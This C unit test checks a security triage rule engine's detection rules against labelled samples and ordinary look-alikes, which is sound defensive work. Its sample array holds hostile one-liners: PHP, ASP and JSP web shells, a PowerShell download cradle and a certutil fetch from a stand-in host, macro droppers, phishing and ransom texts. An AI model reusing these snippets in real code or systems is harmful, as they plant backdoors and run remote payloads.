#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>

#include "base/fd.h"
#include "base/mem.h"
#include "triage/rule_set.h"
#include "triage/rules_check.h"

/* Every rule of etc/rules.d: fires on its sample, and none on what is ordinary. */

struct sample {
	const char *rule; /* NULL: ordinary, none may match */
	unsigned scopes;
	const char *name;
	const char *text;
};

#define TEXT        PART_TEXT, "text"
#define FILE_(name) PART_FILE, name

static const struct sample samples[] = {
	{"credential_harvest_mail", TEXT,
		"Dear user, your mailbox has been suspended. Verify your account within 24 hours: "
		"hxxp://login.example/x"},
	{"credential_harvest_mail", TEXT,
		"Votre compte a été suspendu. Confirmez votre identité: "
		"https://a.example/"},
	{"credential_harvest_mail", TEXT,
		"Su cuenta ha sido bloqueada. Verifique sus datos en https://a.example/"},
	{"credential_harvest_mail", TEXT,
		"Ihr Konto wurde vorü"
		"bergehend gesperrt. Bestätigen Sie Ihre Daten: https://a.example/"},
	{"credential_harvest_help_desk", TEXT,
		"IT Support needs to upgrade your webmail.\nUsername: ........\nPassword: ........\n"},
	{"told_of_phishing", TEXT, "Please take this phishing page down: hxxps://login-bank.example/a"},
	{"told_of_phishing", TEXT,
		"当行を騙るフィッシングサイトを確認しました。 http://login-bank.example/jp/"},
	{"parcel_fee_phishing", TEXT,
		"Your parcel is waiting. Pay the fee of 1.99 within 24 hours: hxxps://parcel.example/pay"},
	{"told_of_command_and_control", TEXT,
		"Our sinkhole sees a command and control server in your network."},
	{"told_of_brute_force", TEXT, "с адреса 203.0.113.99 идёт перебор паролей SSH"},
	{"told_of_defacement", TEXT, "Our web page was defaced, the server is 203.0.113.80."},
	{"phishing_page_form", FILE_("login.html"),
		"<html><title>Microsoft sign in</title><form method=post action=\"next.php\"><input "
		"name=e><input type=\"password\" "
		"name=p></form>"},
	{"phishing_page_attachment", FILE_("voice.html"),
		"<html><script>document.write(unescape('%3Chtml%3E'))</script>"},
	{"ransom_note", FILE_("README.txt"),
		"All your files, documents and databases have been encrypted. To get the decryption key pay "
		"2 BTC. Do not rename files."},
	{"ransom_note", TEXT,
		"Vos fichiers et documents importants ont été chiffrés. Pour la "
		"clé de dé"
		"chiffrement installez "
		"Tor Browser. Ne renommez pas les fichiers."},
	{"web_shell_php", FILE_("up.php"), "<?php @eval($_POST['x']); ?>"},
	{"web_shell_php", FILE_("a.php"), "<?php eval(gzinflate(base64_decode('80jNyQ==')));"},
	{"web_shell_asp_jsp", FILE_("a.asp"), "<%eval request(\"cmd\")%>"},
	{"web_shell_asp_jsp", FILE_("a.jsp"), "<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"},
	{"macro_dropper_source", FILE_("m.bas"),
		"Sub AutoOpen()\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\n Shell \"cmd\"\nEnd Sub\n"},
	{"macro_excel4_auto", FILE_("s.txt"),
		"Auto_Open label\n=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")\n"},
	{"powershell_download_cradle", FILE_("a.ps1"),
		"IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')"},
	{"living_off_the_land_fetch", FILE_("a.bat"),
		"certutil.exe -urlcache -f http://a.example/b.exe b.exe"},
	{"file_double_extension", FILE_("invoice.pdf.exe"), "MZ"},
	{"sextortion_mail", TEXT,
		"I hacked your device and recorded you with your webcam. Send 900 USD in bitcoin to "
		"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"},
	{"invoice_fraud_mail", TEXT,
		"Please note our new bank details for all pending invoices. IBAN XX00 0000. Kindly treat as "
		"urgent."},
	{"invoice_fraud_mail", TEXT,
		"Veuillez noter nos nouvelles coordonnées bancaires pour le virement. C'est une "
		"urgence."},
	{"gift_card_fraud_mail", TEXT,
		"I am in a meeting. I need you to buy 5 Apple gift cards, scratch them and send me the "
		"codes. I will reimburse you."},
	{"pdf_with_hidden_action", FILE_("a.pdf"),
		"%PDF-1.7 /OpenAction << /S /JavaScript /JS (this.exportDataObject({nLaunch:2})) >>"},

	/* What every day brings, and comes near. */
	{NULL, TEXT,
		"Dear all, the meeting on Monday has been moved to 10:00. Agenda: "
		"https://intranet.example/agenda. Regards, Ana"},
	{NULL, TEXT,
		"Your order 4711 has shipped. Track it at https://parcel.example/track?id=4711. Thank you "
		"for your purchase."},
	{NULL, TEXT,
		"You asked for a new password. Use this link within one hour: "
		"https://shop.example/reset/abc. If it was not you, ignore it."},
	{NULL, TEXT,
		"Invoice 2026-17 for October is attached. Payment within 30 days to the account you know. "
		"IBAN as before."},
	{NULL, TEXT,
		"Newsletter: ransomware groups encrypt backups first, says the yearly report. Read how to "
		"keep yours offline."},
	{NULL, TEXT,
		"Please find the minutes. The server was restored from backup last night; all files are "
		"back."},
	{NULL, TEXT,
		"Bonjour, votre facture est disponible dans votre espace client: https://client.example/. "
		"Cordialement"},
	{NULL, TEXT,
		"We moved our wallet of customer data to a new database; the bitcoin price chart is no "
		"longer shown."},
	{NULL, FILE_("contact.html"),
		"<html><form action=\"/search\"><input type=text name=q></form><p>Bank of "
		"Example</p></html>"},
	{NULL, FILE_("login.html"),
		"<html><form action=\"/session\" method=post><input type=password name=p></form></html>"},
	{NULL, FILE_("index.php"), "<?php echo htmlspecialchars($_GET['q']); include 'footer.php'; ?>"},
	{NULL, FILE_("page.jsp"), "<%= request.getParameter(\"name\") %>"},
	{NULL, FILE_("setup.ps1"),
		"Get-ChildItem | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\n"},
	{NULL, FILE_("install.txt"), "Run: curl -fsS https://get.example/install.sh | sh"},
	{NULL, FILE_("sum.bas"), "Sub Workbook_Open()\n Range(\"A1\").Value = Now\nEnd Sub\n"},
	{NULL, FILE_("report.pdf"), "%PDF-1.7 /OpenAction [3 0 R /FitH null] /Type /Catalog"},
	{NULL, FILE_("report.final.pdf"), "%PDF-1.7"},
	{NULL, FILE_("backup.tar.gz"), "\x1f\x8b"},
};

struct found {
	char rules[16][64];
	size_t count;
};

static void on_match(const struct rule_match *match, void *context)
{
	struct found *found = context;

	assert_non_null(match->classification);
	assert_non_null(match->identifier);
	assert_non_null(match->title);
	assert_in_range(match->severity, 0, 100);
	if (found->count < 16)
		snprintf(found->rules[found->count++], 64, "%s", match->rule);
}

static struct rule_set *rules_load(void)
{
	const char *top = getenv("top_srcdir");
	char folder[512];
	struct buf bundle = {0};
	struct rule_set *rules;
	size_t refused;

	snprintf(folder, sizeof(folder), "%s/etc/rules.d", top ? top : "..");
	assert_true(rules_folder_read(folder, &bundle, NULL));
	assert_true(rule_set_compile(buf_view(&bundle), 10000000, &rules, NULL));
	rule_set_refused(rules, &refused);
	assert_int_equal(refused, 0);
	buf_free(&bundle);
	return rules;
}

static struct found scan(struct rule_set *rules, unsigned scopes, const char *name, struct str bytes)
{
	struct part part = {.scopes = scopes, .name = str_of(name), .bytes = bytes};
	struct found found = {.count = 0};

	assert_int_equal(rule_set_scan(rules, &part, on_match, &found), RULE_SCAN_DONE);
	return found;
}

static bool has(const struct found *found, const char *rule)
{
	for (size_t i = 0; i < found->count; i++)
		if (strcmp(found->rules[i], rule) == 0)
			return true;
	return false;
}

static void test_rules_fire_on_their_samples_only(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(samples); i++) {
		const struct sample *sample = &samples[i];
		struct found found = scan(*state, sample->scopes, sample->name, str_of(sample->text));
		if (sample->rule && !has(&found, sample->rule))
			fail_msg("%s does not fire on: %s", sample->rule, sample->text);
		if (!sample->rule && found.count > 0)
			fail_msg("%s fires on: %s", found.rules[0], sample->text);
	}
}

static void assert_fires(struct rule_set *rules, const char *rule, const char *name, const struct buf *bytes)
{
	struct found found = scan(rules, PART_FILE, name, buf_view(bytes));

	if (!has(&found, rule))
		fail_msg("%s does not fire", rule);
}

static void wide(struct buf *out, const char *text)
{
	for (; *text; text++) {
		buf_char(out, *text);
		buf_char(out, '\0');
	}
}

/* Samples that are not text, put together here. */
static void test_rules_fire_on_binary_samples(void **state)
{
	static const char local[] = "PK\3\4\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x0f\0\0\0";
	struct buf bytes = {0};

	/* In two halves, so that this file is not taken for it. */
	buf_text(&bytes, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-");
	buf_text(&bytes, "ANTIVIRUS-TEST-FILE!$H+H*");
	assert_fires(*state, "eicar_test_file", "eicar.com", &bytes);
	buf_clear(&bytes);
	buf_append(&bytes, local, sizeof(local) - 1);
	buf_text(&bytes, "invoice.pdf.exe");
	assert_fires(*state, "archive_double_extension", "invoice.zip", &bytes);
	buf_clear(&bytes);
	buf_append(&bytes, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	wide(&bytes, "_VBA_PROJECT");
	buf_text(&bytes, " AutoOpen WScript.Shell");
	assert_fires(*state, "macro_dropper_document", "a.doc", &bytes);
	buf_clear(&bytes);
	buf_append(&bytes, "L\0\0\0\1\x14\2\0", 8);
	wide(&bytes, "powershell.exe http://a.example/b");
	assert_fires(*state, "shortcut_with_command", "a.lnk", &bytes);
	buf_clear(&bytes);
	buf_append(&bytes, "\xe4\x52\x5c\x7b\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac",
		20);
	buf_text(&bytes, "Set s = CreateObject(\"WScript.Shell\")");
	assert_fires(*state, "onenote_with_script", "a.one", &bytes);
	buf_free(&bytes);
}

/* Every rule file says a scope, and none the one that would cost every sensor line. */
static void test_trap_27_no_rule_here_sees_events(void **state)
{
	size_t count;
	const struct rule_file *files = rule_set_files(*state, &count);

	assert_true(count >= 6);
	assert_false(rule_set_sees(*state, PART_EVENT));
	for (size_t i = 0; i < count; i++)
		assert_int_equal(files[i].scopes & PART_EVENT, 0);
}

static size_t folder_scan(struct rule_set *rules, const char *folder, unsigned scopes, size_t *matches)
{
	DIR *dir = opendir(folder);
	struct dirent *entry;
	size_t files = 0;

	if (!dir)
		return 0;
	while ((entry = readdir(dir)) != NULL) {
		struct buf bytes = {0};
		struct found found;
		char path[1024];
		snprintf(path, sizeof(path), "%s/%s", folder, entry->d_name);
		if (entry->d_name[0] == '.' || !file_read(path, 4 << 20, &bytes, NULL)) {
			buf_free(&bytes);
			continue;
		}
		found = scan(rules, scopes, entry->d_name, buf_view(&bytes));
		if (found.count > 0)
			print_message("%s fires on %s\n", found.rules[0], path);
		*matches += found.count;
		files++;
		buf_free(&bytes);
	}
	closedir(dir);
	return files;
}

/* Mail is seen as text and files, what sensors send as events: a rule for one is not asked about the other.
 */
static void test_none_fires_on_ordinary_mail_and_events(void **state)
{
	static const struct {
		const char *name;
		unsigned scopes;
	} folders[] = {
		{"email/spamassassin/nice", PART_TEXT | PART_FILE},
		{"email/mime", PART_TEXT | PART_FILE},
		{"email/mime/mimekit", PART_TEXT | PART_FILE},
		{"email/bounces", PART_TEXT | PART_FILE},
		{"sensors/suricata", PART_EVENT},
		{"sensors/idea", PART_EVENT},
		{"csirt", PART_EVENT},
	};
	const char *shared = getenv("CIRTD_SHARED_DATA");
	size_t files = 0, matches = 0;

	if (!shared)
		skip();
	for (size_t i = 0; i < ARRAY_LEN(folders); i++) {
		char folder[512];
		snprintf(folder, sizeof(folder), "%s/%s", shared, folders[i].name);
		files += folder_scan(*state, folder, folders[i].scopes, &matches);
	}
	assert_true(files > 20);
	assert_int_equal(matches, 0);
}

static int setup(void **state)
{
	if (!rule_engine_start(NULL))
		return -1;
	*state = rules_load();
	return 0;
}

static int teardown(void **state)
{
	struct rule_set *rules = *state;

	rule_set_free(&rules);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rules_fire_on_their_samples_only),
		cmocka_unit_test(test_rules_fire_on_binary_samples),
		cmocka_unit_test(test_trap_27_no_rule_here_sees_events),
		cmocka_unit_test(test_none_fires_on_ordinary_mail_and_events),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
